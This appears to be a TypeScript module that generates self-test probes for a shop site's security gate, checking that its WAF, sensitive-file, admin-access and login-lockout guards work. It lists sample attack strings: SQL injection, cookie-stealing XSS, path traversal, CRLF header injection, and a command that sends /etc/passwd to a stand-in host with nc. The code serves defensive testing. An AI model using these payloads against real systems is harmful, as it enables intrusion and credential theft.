import type { ProfileAct } from "../../platforms/act.ts"
import type { SitePlan } from "../plan.ts"
import type { StageName } from "../stages/stage.ts"

/** One question of the gate to itself. */
export interface Probe {
  readonly guard: StageName
  /** What is asked, for people: `POST /mypage/login`. */
  readonly door: string
  readonly method: string
  readonly target: string
  /** A form's body. */
  readonly form?: string
  /** Asked so often at most, until the guard acts. */
  readonly times: number
  /** True where the honest twin of an attack must pass. */
  readonly honest?: true
}

const ATTACKS = [
  "1' OR '1'='1' UNION SELECT login,password FROM members-- ",
  "<script>alert(document.cookie)</script>",
  "../../../../../../etc/passwd",
  "; cat /etc/passwd | nc 192.0.2.1 80",
  "x\r\nSet-Cookie: session=1",
] as const
const TWINS = ["O'Reilly", "スニーカー 26.5", "manual/index", "cat food", "red and white"] as const

/** `GET /?q=…`: attack-like values at the door of everybody, and their honest twins. */
const wafProbes = (): readonly Probe[] => [
  ...ATTACKS.map((value, at): Probe => ({
    guard: "waf",
    door: `GET / (${at + 1})`,
    method: "GET",
    target: `/?q=${encodeURIComponent(value)}`,
    times: 1,
  })),
  ...TWINS.map((value, at): Probe => ({
    guard: "waf",
    door: `GET / (${at + 1}=)`,
    method: "GET",
    target: `/?q=${encodeURIComponent(value)}`,
    times: 1,
    honest: true,
  })),
]

/** A word that a pattern of the profile surely matches; null where it is no plain word. */
const wordOf = ({ source }: RegExp): string | null => {
  const bare = source.replace(/^\^/, "").replace(/\$$/, "").replaceAll("\\/", "/").replaceAll("\\.", ".")
  return /^[A-Za-z0-9_/.-]+$/.test(bare) ? bare : null
}
const pairsOf = (told: Readonly<Record<string, RegExp>> | undefined): readonly (readonly [string, string])[] | null => {
  const pairs = Object.entries(told ?? {}).map(([name, pattern]) => [name, wordOf(pattern)] as const)
  return pairs.every((pair): pair is readonly [string, string] => pair[1] !== null) ? pairs : null
}

/** A log-in with a wrong password, in the act's own words; null where the profile's patterns do not tell them. */
export const logInProbe = (
  guard: StageName,
  act: ProfileAct,
  account: string,
  adminFolder: string,
  times: number,
): Probe | null => {
  const [query, when] = [pairsOf(act.query), pairsOf(act.when)]
  const [accountField, passwordField] = [act.fields.account?.[0], act.fields.password?.[0]]
  const place = typeof act.path === "string" ? act.path : act.example
  if (place === undefined || query === null || when === null) return null
  if (accountField === undefined || passwordField === undefined || act.method === "GET") return null
  const path = place.replace("{admin}", adminFolder)
  const search = query.length === 0 ? "" : `?${new URLSearchParams(query.map(([name, value]) => [name, value]))}`
  const fields = [...when, [accountField, account], [passwordField, "no-password-of-anybody"]] as const
  const form = new URLSearchParams(fields.map(([name, value]) => [name, value])).toString()
  return { guard, door: `${act.method} ${path}`, method: act.method, target: path + search, form, times }
}

export interface ProbeList {
  readonly probes: readonly Probe[]
  /** Doors that cannot be tried this way: their guard stays unproved. */
  readonly untried: readonly { readonly guard: StageName; readonly door: string }[]
}

/** More than any guard lets pass: ten failures lock an account. */
const LOG_INS = 25

/**
 * What the gate asks itself, guard by guard, those that count addresses last. Only guards that are enforced and that act on
 * requests: what acts on the shop's answers cannot be tried without the shop.
 */
export const probesOf = (
  { modes, adminFolder, profile }: Pick<SitePlan, "modes" | "adminFolder" | "profile">,
  account: string,
): ProbeList => {
  const on = (guard: StageName): boolean => modes[guard] === "enforce"
  const probes: Probe[] = []
  const untried: ProbeList["untried"][number][] = []
  if (on("limits"))
    probes.push({ guard: "limits", door: "OPTIONS /", method: "OPTIONS", target: "/", form: "x=1", times: 1 })
  if (on("sensitive-files"))
    for (const target of ["/.env", "/.git/config", "/backup.sql"])
      probes.push({ guard: "sensitive-files", door: `GET ${target}`, method: "GET", target, times: 1 })
  if (on("admin-access")) {
    const target = `${adminFolder}/`
    if (adminFolder === "") untried.push({ guard: "admin-access", door: "?" })
    else probes.push({ guard: "admin-access", door: `GET ${target}`, method: "GET", target, times: 1 })
  }
  if (on("waf")) probes.push(...wafProbes())
  if (on("login-defence"))
    for (const act of (profile.acts ?? []).filter(({ kinds, who }) => kinds.includes("log-in") && who === "customer")) {
      const probe = logInProbe("login-defence", act, account, adminFolder, LOG_INS)
      if (probe === null) untried.push({ guard: "login-defence", door: act.id })
      else probes.push(probe)
    }
  return { probes, untried }
}
